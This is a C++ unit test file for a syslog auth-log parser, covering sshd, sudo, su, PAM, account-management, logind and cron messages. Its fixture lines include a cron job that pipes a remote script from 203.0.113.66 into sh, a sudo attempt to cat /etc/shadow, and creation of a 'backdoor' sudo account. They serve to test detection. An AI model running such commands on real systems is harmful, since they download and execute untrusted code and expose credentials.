// Sign-in, sudo, su, account and cron messages inside syslog lines.
#include <gtest/gtest.h>

#include "ingest/formats/registry.h"
#include "support/line_harness.h"

namespace shodo::ingest {
namespace {

using shodo::testing::ParserHarness;

// A syslog parser fed "Jan  2 03:04:05 web1 " + "PROGRAM[PID]: MESSAGE".
struct Auth : ParserHarness {
  Auth() : ParserHarness("syslog", "UTC", "/var/log/auth.log", 1717200000) {
    prefix = "Jan  2 03:04:05 web1 ";
  }
  // The message was not recognized: a plain syslog event.
  void expect_plain(std::string_view tagged) {
    check(tagged, {.kind = LogKind::syslog, .action = "", .user = ""});
  }
};

TEST(AuthSshd, AcceptedPassword) {
  Auth a;
  a.check("sshd[4242]: Accepted password for alice from 192.0.2.10 port 51234 ssh2",
          {.kind = LogKind::auth,
           .process = "sshd",
           .pid = 4242,
           .action = "ssh-login",
           .outcome = "success",
           .user = "alice",
           .client_ip = "192.0.2.10",
           .client_port = 51234,
           .extra = {{"ssh.method", "password"}, {"ssh.key", "<absent>"}}});
}

TEST(AuthSshd, AcceptedPublickeyKeepsTheKey) {
  Auth a;
  a.check(
      "sshd[1]: Accepted publickey for deploy from 2001:db8::5 port 40000 ssh2: ED25519 "
      "SHA256:AbCdEfGh0123456789",
      {.outcome = "success",
       .user = "deploy",
       .client_ip = "2001:db8::5",
       .extra = {{"ssh.method", "publickey"}, {"ssh.key", "ED25519 SHA256:AbCdEfGh0123456789"}}});
}

TEST(AuthSshd, AcceptedKeyboardInteractive) {
  Auth a;
  a.check("sshd[1]: Accepted keyboard-interactive/pam for bob from 198.51.100.4 port 2222 ssh2",
          {.action = "ssh-login",
           .user = "bob",
           .extra = {{"ssh.method", "keyboard-interactive/pam"}}});
}

TEST(AuthSshd, FailedPasswords) {
  Auth a;
  a.check("sshd[9]: Failed password for invalid user admin from 203.0.113.50 port 41000 ssh2",
          {.action = "ssh-login",
           .outcome = "failure",
           .user = "admin",
           .client_ip = "203.0.113.50",
           .extra = {{"ssh.invalid_user", "true"}}});

  a.check("sshd[9]: Failed password for root from 203.0.113.50 port 41001 ssh2",
          {.user = "root", .extra = {{"ssh.invalid_user", "<absent>"}}});

  // The user name is what the client sent, spaces and all.
  a.check(
      "sshd[9]: Failed none for invalid user a from 1.2.3.4 port 5 from 203.0.113.9 port 6 ssh2",
      {.user = "a from 1.2.3.4 port 5", .client_ip = "203.0.113.9"});
}

TEST(AuthSshd, FoldedRepeatsAreUnfolded) {
  Auth a;
  a.check(
      "sshd[9]: message repeated 3 times: [ Failed password for root from 203.0.113.50 port "
      "41000 ssh2]",
      {.action = "ssh-login",
       .outcome = "failure",
       .client_port = 41000,
       .extra = {{"syslog.repeated", "3"}}});
}

TEST(AuthSshd, InvalidUser) {
  Auth a;
  a.check(
      "sshd[9]: Invalid user oracle from 203.0.113.51 port 50000",
      {.action = "ssh-invalid-user", .outcome = "failure", .user = "oracle", .client_port = 50000});
  // Before OpenSSH 7.5: no port.
  a.check("sshd[9]: Invalid user test from 203.0.113.51",
          {.action = "ssh-invalid-user", .client_port = -1});
  // An empty name.
  a.check("sshd[9]: Invalid user  from 203.0.113.51 port 50001",
          {.action = "ssh-invalid-user", .user = ""});
}

TEST(AuthSshd, Disconnects) {
  Auth a;
  a.check("sshd[9]: Connection closed by authenticating user alice 192.0.2.10 port 51234 [preauth]",
          {.action = "ssh-disconnect",
           .outcome = "",
           .user = "alice",
           .client_ip = "192.0.2.10",
           .client_port = 51234});

  a.check("sshd[9]: Connection closed by invalid user guest 203.0.113.7 port 1022 [preauth]",
          {.user = "guest", .extra = {{"ssh.invalid_user", "true"}}});

  a.check("sshd[9]: Connection closed by 203.0.113.7 port 1023 [preauth]",
          {.action = "ssh-disconnect", .user = "", .client_ip = "203.0.113.7"});

  a.check("sshd[9]: Disconnected from user alice 192.0.2.10 port 51234",
          {.action = "ssh-disconnect", .user = "alice"});

  a.check("sshd[9]: Received disconnect from 192.0.2.10 port 51234:11: disconnected by user",
          {.action = "ssh-disconnect", .client_ip = "192.0.2.10", .client_port = 51234});

  a.check("sshd[9]: Received disconnect from 192.0.2.10: 11: Bye Bye",
          {.action = "ssh-disconnect", .client_ip = "192.0.2.10"});
}

TEST(AuthSshd, MaximumAttempts) {
  Auth a;
  a.check(
      "sshd[9]: error: maximum authentication attempts exceeded for invalid user pi from "
      "203.0.113.8 port 3333 ssh2 [preauth]",
      {.action = "ssh-max-auth-attempts",
       .outcome = "failure",
       .user = "pi",
       .client_ip = "203.0.113.8"});
}

TEST(AuthSshd, PamAuthenticationFailure) {
  Auth a;
  a.check(
      "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
      "ruser= rhost=203.0.113.9  user=root",
      {.kind = LogKind::auth,
       .action = "auth-failure",
       .outcome = "failure",
       .user = "root",
       .client_ip = "203.0.113.9",
       .extra = {{"pam.service", "sshd"}}});

  a.check(
      "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
      "ruser= rhost=scanner.example.com",
      {.user = "", .client_ip = "", .extra = {{"pam.rhost", "scanner.example.com"}}});
}

TEST(AuthSshd, NearMissesStayPlain) {
  Auth a;
  a.expect_plain("sshd[9]: Accepted password for alice from not-an-address port 22 ssh2");
  a.expect_plain("sshd[9]: Server listening on 0.0.0.0 port 22.");
  a.expect_plain("sshd[9]: Failed to start session");
  a.expect_plain("sshd[9]: Connection closed by 203.0.113.7 port notaport");
  a.expect_plain("sshd[9]: pam_unix(sshd:auth): check pass; user unknown");
  a.expect_plain("sshd[9]: Invalid user bob from 999.0.2.1 port 22");
  // The same words from another program mean nothing.
  a.expect_plain("myapp[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
  // OpenSSH 9.8 logs from sshd-session.
  a.check("sshd-session[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2",
          {.action = "ssh-login"});
}

TEST(AuthSudo, CommandRun) {
  Auth a;
  a.check("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
          {.kind = LogKind::auth,
           .action = "sudo",
           .outcome = "success",
           .user = "alice",
           .target_user = "root",
           .command = "/bin/bash",
           .extra = {{"sudo.tty", "pts/0"}, {"sudo.pwd", "/home/alice"}}});

  a.check(
      "sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; ENV=A=b ; "
      "COMMAND=/bin/sh -c id ; uname -a",
      {.user = "www-data", .command = "/bin/sh -c id ; uname -a"});
}

TEST(AuthSudo, Refusals) {
  Auth a;
  a.check(
      "sudo: alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/alice ; "
      "USER=root ; COMMAND=/usr/bin/id",
      {.action = "sudo", .outcome = "failure", .command = "/usr/bin/id"});
  a.check(
      "sudo: mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
      "COMMAND=/bin/cat /etc/shadow",
      {.outcome = "failure", .user = "mallory"});
  a.check(
      "sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 "
      "tty=/dev/pts/1 ruser=alice rhost=  user=alice",
      {.action = "auth-failure",
       .user = "alice",
       .target_user = "",
       .extra = {{"pam.service", "sudo"}}});
}

TEST(AuthSudo, SessionsAndNearMisses) {
  Auth a;
  a.check("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
          {.action = "session-opened", .user = "alice", .target_user = "root"});
  a.check("sudo: pam_unix(sudo:session): session closed for user root",
          {.action = "session-closed", .user = "root"});
  a.expect_plain("sudo: unable to resolve host web1: Name or service not known");
  a.expect_plain("sudo: alice : no fields here");
}

TEST(AuthSu, SwitchesAndFailures) {
  Auth a;
  a.check("su[300]: (to root) alice on pts/0", {.action = "su",
                                                .outcome = "success",
                                                .user = "alice",
                                                .target_user = "root",
                                                .extra = {{"su.tty", "pts/0"}}});
  a.check("su[301]: FAILED su for root by alice",
          {.action = "su", .outcome = "failure", .user = "alice", .target_user = "root"});
  a.check("su[303]: FAILED SU (to root) www-data on none", {.action = "su",
                                                            .outcome = "failure",
                                                            .user = "www-data",
                                                            .target_user = "root",
                                                            .extra = {{"su.tty", "none"}}});
  a.check("su[302]: Successful su for postgres by root",
          {.outcome = "success", .target_user = "postgres"});
  a.check("su[300]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
          {.action = "session-opened",
           .user = "alice",
           .target_user = "root",
           .extra = {{"pam.service", "su"}}});
  a.check(
      "su[301]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 "
      "tty=/dev/pts/0 ruser=alice rhost=  user=root",
      {.action = "auth-failure", .user = "alice", .target_user = "root"});
  a.expect_plain("su[303]: something FAILED elsewhere by alice");
}

TEST(AuthPam, SessionsFromSshAndCron) {
  Auth a;
  a.check("sshd[9]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
          {.action = "session-opened", .user = "alice", .target_user = ""});
  a.check(
      "login[9]: pam_unix(login:session): session opened for user bob(uid=1001) by LOGIN(uid=0)",
      {.user = "bob", .target_user = ""});
  a.check("CRON[9]: pam_unix(cron:session): session closed for user root",
          {.kind = LogKind::auth, .action = "session-closed", .extra = {{"pam.service", "cron"}}});
}

TEST(AuthAccounts, UsersGroupsPasswords) {
  Auth a;
  a.check(
      "useradd[500]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, "
      "shell=/bin/bash, from=/dev/pts/1",
      {.kind = LogKind::auth,
       .action = "user-created",
       .outcome = "success",
       .target_user = "backdoor",
       .extra = {{"account.uid", "1002"},
                 {"account.gid", "1002"},
                 {"account.home", "/home/backdoor"},
                 {"account.shell", "/bin/bash"}}});

  a.check("useradd[500]: new group: name=backdoor, GID=1002",
          {.action = "group-created", .extra = {{"group.name", "backdoor"}, {"group.id", "1002"}}});
  a.check("groupadd[501]: new group: name=deployers, GID=1003", {.action = "group-created"});

  a.check("usermod[502]: add 'backdoor' to group 'sudo'", {.action = "user-added-to-group",
                                                           .target_user = "backdoor",
                                                           .extra = {{"group.name", "sudo"}}});
  a.expect_plain("usermod[502]: add 'backdoor' to shadow group 'sudo'");

  a.check("usermod[503]: change user 'backdoor' password",
          {.action = "password-changed", .target_user = "backdoor"});
  a.check(
      "passwd[504]: pam_unix(passwd:chauthtok): password changed for alice",
      {.action = "password-changed", .target_user = "alice", .extra = {{"pam.service", "passwd"}}});
  a.check("chpasswd[505]: pam_unix(chpasswd:chauthtok): password changed for bob",
          {.target_user = "bob"});
  a.check("passwd[506]: password for 'carol' changed by 'root'",
          {.action = "password-changed", .user = "root", .target_user = "carol"});

  a.check("userdel[507]: delete user 'backdoor'",
          {.action = "user-deleted", .target_user = "backdoor"});

  a.expect_plain("useradd[500]: new user: UID=1002, GID=1002");
  a.expect_plain("userdel[507]: delete user backdoor");
  a.expect_plain("usermod[508]: change user 'x' shell from '/bin/sh' to '/bin/bash'");
}

TEST(AuthLogind, Sessions) {
  Auth a;
  a.check("systemd-logind[600]: New session 42 of user alice.",
          {.action = "session-opened", .user = "alice", .extra = {{"session.id", "42"}}});
  a.check("systemd-logind[600]: Removed session 42.",
          {.action = "session-closed", .extra = {{"session.id", "42"}}});
  a.expect_plain("systemd-logind[600]: Session 42 logged out. Waiting for processes to exit.");
}

TEST(AuthCron, Commands) {
  Auth a;
  a.check("CRON[700]: (www-data) CMD (cd /var/www && php artisan schedule:run >> /dev/null 2>&1)",
          {.kind = LogKind::syslog,
           .action = "cron-command",
           .user = "www-data",
           .command = "cd /var/www && php artisan schedule:run >> /dev/null 2>&1"});
  a.check("crond[701]: (root) CMD (curl -s http://203.0.113.66/x.sh | sh)",
          {.command = "curl -s http://203.0.113.66/x.sh | sh"});
  a.expect_plain("CRON[702]: (root) RELOAD (crontabs/root)");
  a.expect_plain("CRON[703]: (CRON) info (No MTA installed, discarding output)");
}

}  // namespace
}  // namespace shodo::ingest
